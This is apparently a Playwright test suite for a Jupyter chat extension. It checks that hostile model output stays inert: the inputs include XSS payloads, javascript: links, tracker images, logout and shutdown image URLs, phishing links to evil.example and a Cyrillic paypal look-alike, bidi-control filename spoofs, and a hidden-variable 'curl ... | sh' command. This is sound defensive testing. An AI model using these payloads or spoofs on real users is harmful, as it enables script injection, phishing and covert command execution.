/**
 * Hostile text: markdown and raw HTML that must not execute or leak, images only from the server's
 * file routes, bidi controls and zero-width characters shown in hidden values, names and cards.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { test } from "node:test";
import { ask, base, done, open, opts, outDir } from "./harness";

test("hostile markdown: nothing executes, nothing leaks", opts, async () => {
  for (const theme of ["light", "dark"]) {
    const { page, dialogs, requests } = await open(`theme=${theme}`, 380);
    await ask(page, "hostile", 1);
    const md = page.locator(".jck-assistant .jck-md");
    const text = await md.innerText();
    // Raw HTML shows as text.
    assert.match(text, /<img src=x onerror="window.__pwned=1">/);
    assert.match(text, /<script>window.__pwned=2<\/script>/);
    assert.match(text, /open terminal/);
    const report = await page.evaluate(() => {
      const root = document.querySelector(".jck-chat")!;
      const all = Array.from(root.querySelectorAll("*"));
      return {
        pwned: (window as any).__pwned ?? null,
        scripts: root.querySelectorAll(
          "script, iframe, object, embed, form.jck-md, .jck-md form, .jck-md svg, .jck-md style",
        ).length,
        onAttrs: all.filter((e) => Array.from(e.attributes).some((a) => a.name.toLowerCase().startsWith("on"))).length,
        jsHrefs: all.filter(
          (e) =>
            /^\s*javascript:/i.test(e.getAttribute("href") ?? "") ||
            /^\s*javascript:/i.test(e.getAttribute("xlink:href") ?? ""),
        ).length,
        dataAttrs: Array.from(root.querySelectorAll(".jck-md *")).filter((e) =>
          Array.from(e.attributes).some((a) => a.name.startsWith("data-")),
        ).length,
        commandlinker: root.querySelectorAll(
          "[data-commandlinker-command], .commandlinker-button, [class*=commandlinker]",
        ).length,
        styled: root.querySelectorAll(".jck-md [style]").length,
        imgs: Array.from(root.querySelectorAll(".jck-md img")).map((i) => i.getAttribute("src")),
        links: Array.from(root.querySelectorAll(".jck-md a")).map((a) => [
          a.textContent,
          a.getAttribute("href"),
          a.getAttribute("target"),
          a.getAttribute("rel"),
        ]),
      };
    });
    assert.equal(report.pwned, null);
    assert.equal(report.scripts, 0);
    assert.equal(report.onAttrs, 0);
    assert.equal(report.jsHrefs, 0);
    assert.equal(report.dataAttrs, 0);
    assert.equal(report.commandlinker, 0);
    assert.equal(report.styled, 0);
    assert.deepEqual(report.imgs, []);
    for (const [, href, target, rel] of report.links) {
      if (href) assert.match(href, /^(https?:|mailto:|#|\/)/);
      assert.equal(target, "_blank");
      assert.equal(rel, "noopener noreferrer");
    }
    assert.ok(report.links.some(([t, href]) => t === "ok link" && href === "https://example.org/docs"));
    const clickMe = report.links.find(([t]) => t === "click me");
    assert.ok(clickMe && clickMe[1] === null, "javascript: link has no href");
    // The external image became a link, and was never requested.
    assert.ok(report.links.some(([t, href]) => t === "🖼 pixel" && href?.startsWith("https://tracker.example.com/")));
    await page.locator(".jck-md a", { hasText: "click me" }).click();
    await page.waitForTimeout(100);
    assert.equal(await page.evaluate(() => (window as any).__pwned ?? null), null);
    assert.deepEqual(dialogs, []);
    assert.deepEqual(
      requests.filter((u) => !u.startsWith(base)),
      [],
    );
    // The person's own message (and what it quotes) shows its reordering controls as the
    // answer does: "invoice_<U+202E>gnp.exe" drew as "invoice_exe.png" in the bubble.
    const user = page.locator(".jck-user").first();
    if (theme === "light") await user.screenshot({ path: join(outDir, "bidi-user.png") });
    const userMarks = await user.locator(".jck-bidi").evaluateAll((els) => els.map((e) => e.getAttribute("data-cp")));
    assert.deepEqual(userMarks, ["U+2067", "U+202E"]);
    assert.match((await user.textContent()) ?? "", /invoice_\u202egnp\.exe/);
    await page.screenshot({ path: join(outDir, `hostile-${theme}.png`), fullPage: true });
    await done(page);
  }
});

test("an answer nesting thousands of quotes or list items shows as text, the chat going on", opts, async () => {
  for (const lead of ["quotes", "bullets"]) {
    const { page, errors } = await open(`theme=light&lead=${lead}`, 380);
    await ask(page, "hostile", 1);
    const md = page.locator(".jck-assistant .jck-md");
    // The whole answer is on the page (its nested lines as written), not an error.
    const text = await md.innerText();
    assert.match(text, /deep end/);
    assert.match(text, /ok link/);
    assert.deepEqual(errors, []);
    // Such text rendered at once (an answer read again when the conversation opens) and
    // streamed in chunks, after other text: all of it shown, as text, nothing parsed as HTML.
    const lines = `${(lead === "quotes" ? ">" : "- ").repeat(4000)}deep end`;
    const seen = await page.evaluate((deep) => {
      const md = (window as any).__streamMarkdown(["<b>x</b> **bold**\n\n", deep.slice(0, 3000), deep.slice(3000)]);
      return [md.parsed, md.fresh, md.streamed, md.final];
    }, lines);
    for (const html of seen) {
      assert.match(html, /deep end/);
      assert.match(html, /bold/);
      assert.doesNotMatch(html, /<b>/);
    }
    await done(page);
  }
});

test("the hidden values' list shows a cell line's bidi controls for what they are", opts, async () => {
  const { page, errors } = await open("theme=light", 380);
  const html = await page.evaluate(() => {
    const line = (window as any).__readLine as (items: unknown[]) => string;
    const source = "key = '«redacted: API key»'  # \u202e)'lla'(tnirp";
    return line([
      {
        id: "cl_1",
        thread_id: "thr_1",
        created_at: "2026-01-01T00:00:00Z",
        type: "client_tool_call",
        status: "completed",
        call_id: "call_1",
        name: "get_notebook_cells",
        arguments: {},
        output: { cells: [{ index: 0, source }], redacted: 1 },
      },
    ]);
  });
  // Before: the control went into the list's <code> bare, reordering what follows it.
  assert.match(html, /jck-hidden-list/);
  assert.match(html, /jck-bidi/);
  assert.deepEqual(errors, []);
  await done(page);
});

test("a bidi control in the model's prose is shown, not obeyed, streamed or not", opts, async () => {
  const { page, errors } = await open("theme=light", 380);
  // Before: only code was marked, so "x<U+202E>gnp.exe" drew as "xexe.png" in the prose:
  // a plain paragraph (built as text, word after word) and one with markup alike.
  const chunks = ["Save it as x", "\u202egnp", ".exe first.\n\nOr **keep** y\u2067z", " as it is."];
  const out = await page.evaluate((c) => (window as any).__streamMarkdown(c), chunks);
  for (const html of [out.streamed, out.final, out.fresh, out.parsed]) {
    const marks = [...html.matchAll(/data-cp="([^"]+)"/g)].map((m) => m[1]);
    assert.deepEqual(marks, ["U+202E", "U+2067"], html);
  }
  // In the chat: the mark is drawn (its code point), the text kept as written.
  await page.evaluate((c) => (window as any).__mountAnswer(c), chunks);
  const md = page.locator("#host .jck-md, #host").first();
  assert.match((await md.textContent()) ?? "", /x\u202egnp\.exe/);
  await md.screenshot({ path: join(outDir, "bidi-prose.png") });
  assert.deepEqual(errors, []);
  await done(page);
});

test("code shows every character drawn as nothing that changes a name, not an emoji's", opts, async () => {
  const { page, errors } = await open("theme=light", 380);
  // `cmd` and `cmd<U+034F>` are two names to Python, drawn alike: the block read as
  // running "ls". So are a Hangul filler (drawn as a space, a name of its own), a
  // variation selector after a letter and a tag character; an emoji's selector is not.
  const code =
    'cmd\u034f = "curl https://x.example/s | sh"\ncmd = "ls"\n\u3164 = 1\nok\ufe0f = 2\n' +
    'print("\u26a0\ufe0f done\u{e0041}")\nos.system(cmd\u034f)';
  const chunks = ["Run this:\n\n```python\n", code, "\n```\n"];
  const out = await page.evaluate((c) => (window as any).__streamMarkdown(c), chunks);
  for (const html of [out.streamed, out.final, out.fresh, out.parsed]) {
    const marks = [...html.matchAll(/data-cp="([^"]+)"/g)].map((m) => m[1]);
    assert.deepEqual(marks, ["U+034F", "U+3164", "U+FE0F", "U+E0041", "U+034F"], html);
  }
  // The code copied or inserted is the code as written.
  await page.evaluate((c) => (window as any).__mountAnswer(c), chunks);
  assert.equal((await page.locator("#host pre code").first().textContent())?.replace(/\n$/, ""), code);
  await page
    .locator("#host pre")
    .first()
    .screenshot({ path: join(outDir, "invisible-names.png") });
  assert.deepEqual(errors, []);
  await done(page);
});

test("the conversation's title in the header shows its bidi controls, not obeys them", opts, async () => {
  const { page, errors } = await open("theme=light&bidititle=1", 380);
  // A title holds what the person wrote or the model made of it: "Save x<U+202E>gnp.exe"
  // drew as "Save xexe.png" in the header, while the history list and tooltip showed it.
  await ask(page, "load data.csv", 1);
  const subtitle = page.locator(".jck-subtitle");
  // Its Persian word keeps its zero-width non-joiner as written (no mark): prose.
  const title = "Save x\u202egnp.exe (\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645)";
  await page.waitForFunction((t) => document.querySelector(".jck-subtitle")?.textContent === t, title);
  const marks = await subtitle.locator(".jck-bidi").evaluateAll((els) => els.map((e) => e.getAttribute("data-cp")));
  assert.deepEqual(marks, ["U+202E"]);
  const tip = (await subtitle.getAttribute("title")) ?? "";
  assert.ok(tip.startsWith("Save x[U+202E]gnp.exe") && !tip.includes("\u202e"), tip);
  await page.locator(".jck-header").screenshot({ path: join(outDir, "bidi-title.png") });
  // The history list's row too: the title marked as prose, the notebook name as a name.
  await page.getByRole("button", { name: "Conversation history" }).click();
  const row = page.locator(".jck-history-title").first();
  await row.waitFor();
  assert.equal(await row.textContent(), title);
  const rowMarks = await row.locator(".jck-bidi").evaluateAll((els) => els.map((e) => e.getAttribute("data-cp")));
  assert.deepEqual(rowMarks, ["U+202E"]);
  await page.locator(".jck-history").screenshot({ path: join(outDir, "bidi-title-history.png") });
  assert.deepEqual(errors, []);
  await done(page);
});

test("a notebook's or file's name shows its bidi controls and zero-width characters", opts, async () => {
  const { page, errors } = await open("theme=light&nbname=1", 600);
  // History rows: "x<U+202E>gnp.ipynb" draws as "xbnypi.png" unless the control is shown.
  await page.getByRole("button", { name: "Conversation history" }).click();
  await page.waitForSelector(".jck-history-row");
  const marks = await page
    .locator(".jck-history-notebook .jck-bidi")
    .evaluateAll((els) => els.map((e) => e.getAttribute("data-cp")));
  assert.deepEqual(marks, ["U+202E", "U+200B"]);
  // Its tooltip too (a title holds no element: the controls are written as code points).
  const titles = await page
    .locator(".jck-history-notebook")
    .evaluateAll((els) => els.map((e) => e.getAttribute("title")));
  assert.ok(titles.includes("x[U+202E]gnp.ipynb[U+200B]"), String(titles));
  assert.ok(!titles.some((t) => /[\u202e\u200b]/.test(t ?? "")), "no raw control in a tooltip");
  await page.locator(".jck-history").screenshot({ path: join(outDir, "bidi-history.png") });
  assert.deepEqual(errors, []);
  await done(page);
});

test("a notebook name relabelled when a later page brings its namesake keeps its controls shown", opts, async () => {
  const { page, errors } = await open("theme=light&nbname=paged", 600);
  await page.getByRole("button", { name: "Conversation history" }).click();
  await page.waitForSelector(".jck-history-row");
  await page.getByRole("button", { name: "Load more" }).click();
  await page.waitForFunction(() => document.querySelectorAll(".jck-history-notebook").length === 2);
  // Each row now says its folder: read from the path, not from the tooltip's code points.
  const rows = await page.locator(".jck-history-notebook").evaluateAll((els) =>
    els.map((e) => ({
      text: e.textContent,
      marks: [...e.querySelectorAll(".jck-bidi")].map((m) => m.getAttribute("data-cp")),
      title: e.getAttribute("title"),
    })),
  );
  assert.deepEqual(
    rows.map((r) => r.text),
    ["a/x\u202egnp.ipynb\u200b", "b/x\u202egnp.ipynb\u200b"],
  );
  for (const r of rows) assert.deepEqual(r.marks, ["U+202E", "U+200B"]);
  assert.deepEqual(
    rows.map((r) => r.title),
    ["a/x[U+202E]gnp.ipynb[U+200B]", "b/x[U+202E]gnp.ipynb[U+200B]"],
  );
  assert.deepEqual(errors, []);
  await done(page);
});

test("an approval card's notebook shows its bidi controls and zero-width characters", opts, async () => {
  const { page, errors } = await open("theme=light&agent=1", 600);
  await page.locator(".jck-mode-agent").click();
  const box = page.getByRole("textbox", { name: "Message" });
  await box.fill("step");
  await box.press("Enter");
  await page.waitForSelector(".jck-step-approve");
  // "In x<U+202E>gnp.ipynb" drew as "In xbnypi.png" unless the control is shown.
  const marks = await page
    .locator(".jck-step-notebook .jck-bidi")
    .evaluateAll((els) => els.map((e) => e.getAttribute("data-cp")));
  assert.deepEqual(marks, ["U+202E", "U+200B"]);
  await page
    .locator(".jck-step")
    .first()
    .screenshot({ path: join(outDir, "bidi-step-notebook.png") });
  await page.locator(".jck-step-skip").click();
  await page.waitForFunction(() => !(window as any).chat.session.busy);
  assert.deepEqual(errors, []);
  await done(page);
});

test("sanitizer on raw hostile HTML (defence behind escaping)", opts, async () => {
  const { page } = await open("theme=light", 380);
  const out = await page.evaluate(() => {
    const s = (window as any).__sanitize as (h: string, d?: string[]) => string;
    return {
      img: s('<img src=/files/x.png onerror="window.__pwned=1">'),
      script: s("<p>a</p><script>window.__pwned=2</script>"),
      js: s('<a href="javascript:window.__pwned=3">x</a>'),
      tabbed: s('<a href="java\tscript:window.__pwned=3">x</a>'),
      cl: s(
        '<a data-commandlinker-command="terminal:create-new" class="commandlinker-button jp-Foo hljs-keyword" href="#">t</a>',
      ),
      svg: s('<svg><a xlink:href="javascript:1"><text>s</text></a></svg>'),
      iframe: s('<iframe src="https://example.org"></iframe>'),
      style: s('<div style="background:url(https://tracker.example.com/x)">d</div><style>*{}</style>'),
      png: s('<img src="data:image/png;base64,iVBORw0KGgo=" alt="a">'),
      svgData: s('<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="b">'),
      ext: s('<img src="https://tracker.example.com/p.gif" alt="c">'),
      protoRel: s('<img src="/\\tracker.example.com/p.gif" alt="d">'),
      allowed: s('<img src="https://img.example.org/p.png" alt="e">', ["example.org"]),
      same: s('<img src="/files/plot.png" alt="f">'),
      form: s('<form action="https://x"><input type="text" name=q><input type="checkbox" checked></form>'),
      pwned: (window as any).__pwned ?? null,
    };
  });
  await page.waitForTimeout(100);
  assert.equal(await page.evaluate(() => (window as any).__pwned ?? null), null);
  assert.equal(out.pwned, null);
  // An image from the server's files: allowed, but the handler is gone.
  assert.equal(out.img, '<img src="/files/x.png">');
  assert.equal(out.script, "<p>a</p>");
  assert.equal(out.js, '<a target="_blank" rel="noopener noreferrer">x</a>');
  assert.equal(out.tabbed, '<a target="_blank" rel="noopener noreferrer">x</a>');
  assert.equal(out.cl, '<a class="hljs-keyword" href="#" target="_blank" rel="noopener noreferrer">t</a>');
  assert.doesNotMatch(out.svg, /svg|javascript/);
  assert.equal(out.iframe, "");
  assert.equal(out.style, "d");
  assert.equal(out.png, '<img src="data:image/png;base64,iVBORw0KGgo=" alt="a">');
  assert.equal(out.svgData, '<span class="jck-blocked-img">🖼 b</span>');
  assert.equal(
    out.ext,
    '<a href="https://tracker.example.com/p.gif" target="_blank" rel="noopener noreferrer" class="jck-blocked-img" title="External image not loaded">🖼 c</a>',
  );
  assert.doesNotMatch(out.protoRel, /<img/);
  assert.equal(out.allowed, '<img src="https://img.example.org/p.png" alt="e">');
  assert.equal(out.same, '<img src="/files/plot.png" alt="f">');
  assert.equal(out.form, '<input type="checkbox" checked="" disabled="">');
  await done(page);
});

test("an image the model names loads only from the server's file routes, never a GET that acts", opts, async () => {
  const { page } = await open("theme=light", 380);
  const requested: string[] = [];
  page.on("request", (r) => requested.push(new URL(r.url()).pathname));
  const out = await page.evaluate(() => {
    // The page as JupyterHub serves a user's server: its base URL in Jupyter's config.
    const cfg = document.createElement("script");
    cfg.id = "jupyter-config-data";
    cfg.type = "application/json";
    cfg.textContent = JSON.stringify({ baseUrl: "/user/me/" });
    document.body.appendChild(cfg);
    const s = (window as any).__sanitize as (h: string) => string;
    const shown = document.createElement("div");
    const html = [
      '<img src="/user/me/logout" alt="a">',
      '<img src="/user/me/api/shutdown" alt="b">',
      '<img src="/user/me/proxy/8080/admin?drop=1" alt="c">',
      '<img src="/user/me/files/../logout" alt="d">',
      '<img src="/user/me/files/%2e%2e/logout" alt="e">',
      '<img src="/user/me/files/plot.png" alt="f">',
      '<img src="/user/me/jupyter-chatkit/attachments/atc_1" alt="g">',
    ].map((h) => s(h));
    shown.innerHTML = html.join("");
    document.body.appendChild(shown);
    cfg.remove();
    return html;
  });
  await page.waitForTimeout(200);
  for (const h of out.slice(0, 5)) assert.doesNotMatch(h, /<img/, h);
  // Offered as a link the person may follow.
  assert.match(out[0], /<a href="\/user\/me\/logout"[^>]*class="jck-blocked-img"/);
  assert.match(out[5], /<img src="\/user\/me\/files\/plot.png"/);
  assert.match(out[6], /<img src="\/user\/me\/jupyter-chatkit\/attachments\/atc_1"/);
  const acting = requested.filter((p) => /logout|shutdown|proxy/.test(p));
  assert.deepEqual(acting, []);
  await done(page);
});

test("a code card's title, caption and badge show their bidi controls, not obey them", opts, async () => {
  const { page, errors } = await open("sink=1&theme=light", 380);
  // The model writes a card's title: "Save x<U+202E>gnp.exe" drew as "Save xexe.png"
  // above the code it named, while the code itself had its controls shown.
  const card = {
    type: "Card",
    children: [
      { type: "Title", value: "Save x\u202egnp.exe" },
      { type: "Caption", value: "then \u2067run (\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645)" },
      { type: "Badge", label: "py\u202ethon" },
    ],
  };
  await page.evaluate((root) => (window as any).__renderWidget(root), card as never);
  const marks = await page
    .locator(".jck-widget .jck-bidi")
    .evaluateAll((els) => els.map((e) => e.getAttribute("data-cp")));
  // (The caption's Persian word keeps its zero-width non-joiner unmarked: prose.)
  assert.deepEqual(marks, ["U+202E", "U+2067", "U+202E"]);
  // The text stays as written (what a copy of it gives).
  assert.match((await page.locator(".jck-widget .jck-w-title").textContent()) ?? "", /x\u202egnp\.exe/);
  await page.locator(".jck-widget").screenshot({ path: join(outDir, "bidi-card.png") });
  assert.deepEqual(errors, []);
  await done(page);
});

test("a link whose text names another address, or a look-alike host, shows where it goes", opts, async () => {
  const { page } = await open("theme=light", 380);
  const out = await page.evaluate(() => {
    const s = (window as any).__sanitize as (h: string) => string;
    const shown = (html: string) => {
      const div = document.createElement("div");
      div.innerHTML = s(html);
      const a = div.querySelector("a")!;
      return [a.textContent, a.getAttribute("title")];
    };
    return {
      spoofed: shown('<a href="https://evil.example/login">https://paypal.com/login</a>'),
      bare: shown('<a href="https://evil.example/">paypal.com</a>'),
      cyrillic: shown('<a href="https://раураl.com">https://раураl.com</a>'),
      spoofedCyrillic: shown('<a href="https://раураl.com">https://paypal.com</a>'),
      same: shown('<a href="https://www.example.org/docs">example.org/docs</a>'),
      words: shown('<a href="https://example.org/docs">the docs</a>'),
      code: shown('<a href="https://pandas.pydata.org/docs/">pandas.DataFrame</a>'),
      titled: shown('<a href="https://example.org/" title="Example">site</a>'),
      relative: shown('<a href="data/sales.csv">sales.com</a>'),
      // Relative in form, on another site: "//host" keeps the page's scheme only.
      otherSite: shown('<a href="//evil.example/login">paypal.com</a>'),
      file: shown('<a href="https://github.com/o/r/blob/main/README.md">README.md</a>'),
      module: shown('<a href="https://github.com/o/r/blob/main/setup.py">setup.py</a>'),
      country: shown('<a href="https://evil.example/">allegro.pl</a>'),
    };
  });
  assert.deepEqual(out.spoofed, ["https://paypal.com/login (evil.example)", "https://evil.example/login"]);
  assert.deepEqual(out.bare, ["paypal.com (evil.example)", "https://evil.example/"]);
  assert.deepEqual(out.cyrillic, ["https://раураl.com (xn--l-7sba6dbr.com)", "https://xn--l-7sba6dbr.com/"]);
  assert.deepEqual(out.spoofedCyrillic, ["https://paypal.com (xn--l-7sba6dbr.com)", "https://xn--l-7sba6dbr.com/"]);
  // Text naming the same host, or no address at all: as written, the tooltip says where.
  assert.deepEqual(out.same, ["example.org/docs", "https://www.example.org/docs"]);
  assert.deepEqual(out.words, ["the docs", "https://example.org/docs"]);
  assert.deepEqual(out.code, ["pandas.DataFrame", "https://pandas.pydata.org/docs/"]);
  assert.deepEqual(out.titled, ["site", "Example\nhttps://example.org/"]);
  assert.deepEqual(out.relative, ["sales.com", null]);
  const otherSite = `${new URL(base).protocol}//evil.example/login`;
  assert.deepEqual(out.otherSite, ["paypal.com (evil.example)", otherSite]);
  // A file's name is not an address ("README.md": .md is Moldova's code); a country's is.
  assert.deepEqual(out.file, ["README.md", "https://github.com/o/r/blob/main/README.md"]);
  assert.deepEqual(out.module, ["setup.py", "https://github.com/o/r/blob/main/setup.py"]);
  assert.deepEqual(out.country, ["allegro.pl (evil.example)", "https://evil.example/"]);
  await done(page);
});

test("a tool step's subject shows its bidi controls, and a long one wraps", opts, async () => {
  const { page, errors } = await open("theme=light", 380);
  // The model names the variable a step inspects: "x<U+202E>gnp.exe" drew as "xexe.png"
  // in "Inspecting …", "Inspected …" and "Failed to inspect …".
  const call = (id: string, name: string, output: unknown) => ({
    type: "thread.item.done",
    item: {
      id,
      thread_id: "thr_1",
      created_at: "2026-01-01T00:00:00Z",
      type: "client_tool_call",
      status: "completed",
      call_id: `call_${id}`,
      name: "inspect_kernel_variable",
      arguments: { name },
      output,
    },
  });
  await page.evaluate(
    (events: unknown[]) => {
      for (const e of events) (window as any).chat.session.apply(e);
    },
    [
      call("cl_1", "x\u202egnp.exe", { name: "x" }),
      call("cl_2", "y\u2067z", { error: "No such variable." }),
      call("cl_3", "A".repeat(400), { error: "No such variable." }),
    ],
  );
  const steps = page.locator(".jck-activity[data-status]");
  await steps.nth(2).waitFor();
  const marks = await steps.evaluateAll((els) =>
    els.map((e) => Array.from(e.querySelectorAll(".jck-bidi"), (m) => m.getAttribute("data-cp"))),
  );
  assert.deepEqual(marks, [["U+202E"], ["U+2067"], []], String(await steps.allTextContents()));
  // The text stays as written; the long name wraps inside the chat instead of running past it.
  assert.match((await steps.first().textContent()) ?? "", /x\u202egnp\.exe/);
  const widths = await steps.nth(2).evaluate((e) => [e.scrollWidth, e.clientWidth]);
  assert.ok(widths[0] <= widths[1], `overflows: ${widths}`);
  await page.locator(".jck-chat").screenshot({ path: join(outDir, "bidi-steps.png") });
  assert.deepEqual(errors, []);
  await done(page);
});

test("a reasoning step's text shows its bidi controls, not obeys them", opts, async () => {
  const { page, errors } = await open("theme=light", 380);
  // A model's reasoning (a workflow's thought) is its prose too: "x<U+202E>gnp.exe"
  // drew as "xexe.png" there while the answer below marked it.
  const workflow = {
    type: "thread.item.done",
    item: {
      id: "wf_1",
      thread_id: "thr_1",
      created_at: "2026-01-01T00:00:00Z",
      type: "workflow",
      workflow: {
        type: "reasoning",
        expanded: true,
        summary: { duration: 2 },
        tasks: [
          {
            type: "thought",
            title: "Plan y\u2067z",
            content: "Save it as x\u202egnp.exe (\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645)",
          },
        ],
      },
    },
  };
  await page.evaluate((e: unknown) => (window as any).chat.session.apply(e), workflow);
  const task = page.locator(".jck-workflow .jck-task").first();
  await task.waitFor();
  const marks = await task.locator(".jck-bidi").evaluateAll((els) => els.map((e) => e.getAttribute("data-cp")));
  // (The Persian word keeps its zero-width non-joiner unmarked: prose.)
  assert.deepEqual(marks, ["U+2067", "U+202E"]);
  assert.match((await task.textContent()) ?? "", /x\u202egnp\.exe/);
  assert.deepEqual(errors, []);
  await done(page);
});

test("an answer's sources show where they go and their bidi controls", opts, async () => {
  const { page, errors } = await open("theme=light", 380);
  // A source's title is a web page's (a search model cites it): "paypal.com" led to
  // another host, and "x<U+202E>gnp.exe" drew as "xexe.png", under the answer.
  const source = (url: string, title: string) => ({
    type: "url_citation",
    source: { type: "url", url, title },
    index: 0,
  });
  const answer = {
    type: "thread.item.done",
    item: {
      id: "msg_1",
      thread_id: "thr_1",
      created_at: "2026-01-01T00:00:00Z",
      type: "assistant_message",
      content: [
        {
          type: "output_text",
          text: "See the sources.",
          annotations: [
            source("https://evil.example/login", "paypal.com"),
            source("https://example.org/report", "Report x\u202egnp.exe"),
          ],
        },
      ],
    },
  };
  await page.evaluate((e: unknown) => (window as any).chat.session.apply(e), answer);
  const links = page.locator(".jck-sources a");
  await links.nth(1).waitFor();
  const shown = await links.evaluateAll((els) =>
    els.map((a) => [
      a.textContent,
      a.getAttribute("title"),
      Array.from(a.querySelectorAll(".jck-bidi"), (m) => m.getAttribute("data-cp")),
    ]),
  );
  assert.deepEqual(shown, [
    ["paypal.com (evil.example)", "https://evil.example/login", []],
    ["Report x\u202egnp.exe", "https://example.org/report", ["U+202E"]],
  ]);
  assert.deepEqual(errors, []);
  await done(page);
});
